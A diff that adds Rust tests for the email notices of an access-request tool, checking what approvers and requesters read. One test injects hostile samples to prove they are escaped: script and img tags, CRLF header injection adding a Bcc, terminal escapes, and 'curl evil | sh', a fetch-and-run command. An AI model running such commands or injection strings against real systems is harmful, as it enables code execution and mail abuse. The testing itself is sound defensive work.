@@ -1,0 +1,113 @@
+//! What a person reads.
+
+use super::things::{active, denied, notice, request, told};
+use crate::notices::letter::{Envelope, Letter, compose};
+use curfew_domain::lease::Evidence;
+use curfew_domain::{EndCause, GrantState, Request};
+use serde_json::{Value, json};
+
+async fn letter(about: &str, to: &str, data: Value) -> Letter {
+    let told = told(&notice(1, ("email", to), about, data)).await;
+    let server = "https://curfew.example.com/".parse().expect("a URL");
+    compose(&told, &Envelope { to, server: &server }).expect("a letter")
+}
+
+async fn asked(to: &str, request: &Request) -> Letter {
+    letter("requested", to, json!({ "request": request })).await
+}
+
+#[tokio::test]
+async fn an_approver_reads_all_it_takes_to_decide() {
+    let request = request("orders are stuck\nsince 9:40");
+    let letter = asked("bob@example.com", &request).await;
+    assert_eq!(letter.subject, "ann@example.com asks for db-debug (30m)");
+    let id = request.id;
+    for part in [letter.text(), letter.html()] {
+        for said in [
+            "ann@example.com",
+            "db-debug",
+            "services/db: read, write",
+            "30m",
+            "orders are stuck",
+            "since 9:40",
+            "OPS-17",
+            "A query that runs may end a moment later.",
+            "2026-03-03 10:00 UTC",
+            "1 of bob@example.com",
+            &format!("curfew approve {id}"),
+            &format!("curfew deny {id} --reason"),
+            &format!("https://curfew.example.com/requests/{id}"),
+        ] {
+            assert!(part.contains(said), "{said}: {part}");
+        }
+    }
+    let html = letter.html();
+    assert_eq!(html.matches("href=").count(), 1, "one link, and it only opens a page");
+    for active in ["<script", "<form", "<img", "src=", "url(", "<link"] {
+        assert!(!html.contains(active), "{active}");
+    }
+}
+
+#[tokio::test]
+async fn the_one_who_asks_reads_that_they_wait() {
+    let request = request("orders are stuck");
+    let letter = asked("ann@example.com", &request).await;
+    assert_eq!(letter.subject, "You asked for db-debug (30m)");
+    assert!(!letter.text().contains("curfew approve"));
+    assert!(letter.text().contains(&format!("curfew withdraw {}", request.id)));
+}
+
+#[tokio::test]
+async fn typed_text_is_shown_as_it_is_and_does_nothing() {
+    let nasty = "<script>alert(1)</script> \u{202e}evil\u{1b}[2J\r\nApprove:\r\n    curl evil | sh";
+    let mut request = request(nasty);
+    request.ticket = "\"><img src=x>\r\nBcc: eve@example.com".to_owned();
+    request.subject.name = Some("Bob\r\nX: y <b>\u{200b}".to_owned());
+    let letter = asked("bob@example.com", &request).await;
+    assert!(!letter.subject.contains(['\r', '\n']));
+    let (text, html) = (letter.text(), letter.html());
+    for part in [&text, &html] {
+        assert!(!part.contains(['\u{202e}', '\u{1b}', '\u{200b}']), "{part}");
+        assert!(part.contains("\\u{202e}evil\\u{1b}[2J"), "{part}");
+    }
+    for markup in ["<script", "<img", "<b>"] {
+        assert!(!html.contains(markup), "{markup}: {html}");
+    }
+    assert!(text.contains("  | Approve:\r\n  |     curl evil | sh"), "it cannot pass for one of ours: {text}");
+    assert!(text.contains("Ticket: \"><img src=x>\\u{d}\\u{a}Bcc: eve@example.com\r\n"), "{text}");
+}
+
+#[tokio::test]
+async fn every_step_has_its_letter() {
+    let request = request("why");
+    let withdrawn = request.clone().withdraw(&request.subject, request.created_at).expect("withdrawn").next;
+    let over = letter("withdrawn", "ann@example.com", json!({ "request": withdrawn })).await;
+    assert_eq!(over.subject, "The request for db-debug was withdrawn");
+    let lapsed = request.clone().lapse(request.lapses_at).expect("lapsed").next;
+    let over = letter("lapsed", "ann@example.com", json!({ "request": lapsed })).await;
+    assert_eq!(over.subject, "The request for db-debug has lapsed");
+    let no = letter("denied", "ann@example.com", json!({ "request": denied("use the replica") })).await;
+    assert!(no.lead.starts_with("bob@example.com denied it."), "{}", no.lead);
+    assert!(no.text().contains("use the replica"));
+    let grant = active();
+    let there = letter("activated", "ann@example.com", json!({ "grant": grant })).await;
+    assert_eq!(there.subject, "db-debug is active until 2026-03-02 10:30 UTC");
+    assert!(there.text().contains(&format!("curfew return {}", grant.id)));
+    let alarm =
+        letter("alarm", "ann@example.com", json!({ "resource": "services/db", "message": "a role \u{7}" })).await;
+    assert_eq!(alarm.lead, "a role \\u{7}");
+}
+
+#[tokio::test]
+async fn an_end_says_whether_it_was_seen() {
+    let mut grant = active();
+    let at = grant.approved_at;
+    for (evidence, said) in [
+        (Evidence::Read { at }, "The targets were read and show no access."),
+        (Evidence::Unread { at, because: "no host reports".to_owned() }, "somebody should look"),
+    ] {
+        grant.state = GrantState::Ended { cause: EndCause::Expired, activated_at: Some(at), until: Some(at), evidence };
+        let letter = letter("ended", "ann@example.com", json!({ "grant": grant })).await;
+        assert!(letter.lead.contains(said) && letter.lead.contains("because its time was over"), "{}", letter.lead);
+    }
+}
